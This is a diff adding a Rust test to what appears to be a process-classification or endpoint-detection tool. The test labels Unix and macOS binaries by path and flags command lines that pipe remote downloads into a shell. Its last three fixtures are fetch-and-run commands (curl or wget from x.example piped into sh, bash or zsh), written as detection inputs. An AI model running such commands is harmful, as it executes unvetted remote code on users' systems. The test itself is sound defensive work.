@@ -264,3 +264,49 @@ fn who_acts_for_others() {
     assert_eq!(of(&attribution(super::super::Delegated { likely, ..nobody })), Some(Class::Lolbin));
     assert_eq!(of(&Attribution::no_telemetry()), None);
 }
+
+/// Linux and macOS: their paths, names that the kernel cut at 15 bytes, versions, packages, and what is piped into a shell.
+#[test]
+fn programs_of_unix() {
+    const SCRIPTS: &str = "interpreter suspicious-process scripting-process";
+    for (path, expected) in [
+        // As the kernel has their names, without a path.
+        ("unattended-upgr", "updater"),
+        ("systemd-resolve", "delegate"),
+        ("chromium-browse", "browser"),
+        ("thunderbird-bin", "collaboration"),
+        // By version.
+        ("/usr/bin/python3.13", SCRIPTS),
+        ("/usr/bin/perl5.36.0", SCRIPTS),
+        ("/usr/bin/ruby3.1", SCRIPTS),
+        ("/usr/bin/php8.2", SCRIPTS),
+        ("/usr/bin/lua5.4", SCRIPTS),
+        ("/opt/homebrew/Cellar/node/23.1.0/bin/node", SCRIPTS),
+        ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "interpreter suspicious-process"),
+        // Package managers.
+        ("/usr/bin/apt-get", "updater"),
+        ("/usr/bin/dnf5", "updater"),
+        ("/usr/bin/zypper", "updater"),
+        ("/usr/bin/pacman", "updater"),
+        ("/sbin/apk", "updater"),
+        ("/usr/lib/snapd/snapd", "updater"),
+        ("/usr/bin/flatpak", "updater"),
+        ("/opt/homebrew/bin/brew", "developer-tool"),
+        // macOS.
+        ("/usr/bin/osascript", SCRIPTS),
+        ("/Applications/Safari.app/Contents/MacOS/Safari", "browser"),
+        ("/System/Cryptexes/App/System/Applications/Safari.app/Contents/MacOS/Safari", "browser"),
+        ("/Applications/Slack.app/Contents/MacOS/Slack", "collaboration"),
+        ("/usr/sbin/mDNSResponder", "delegate"),
+        ("/usr/bin/nscurl", "download-utility suspicious-process"),
+        ("/Users/a/Library/Caches/x/Safari", "unknown masquerade unusual-path"),
+        ("/private/tmp/curl", "download-utility suspicious-process unusual-path"),
+    ] {
+        check(path, expected);
+    }
+    let line = |path: &str, line: &str, expected: &str| check_line(path, line, "", expected);
+    let piped = "interpreter suspicious-process suspicious-command-line inline-code";
+    line("/usr/bin/bash", "bash -c \"curl -fsSL https://x.example/i | sh\"", piped);
+    line("/usr/bin/dash", "sh -c wget -qO- https://x.example/i | bash", piped);
+    line("/bin/zsh", "/bin/zsh -c curl https://x.example/i|zsh", piped);
+}
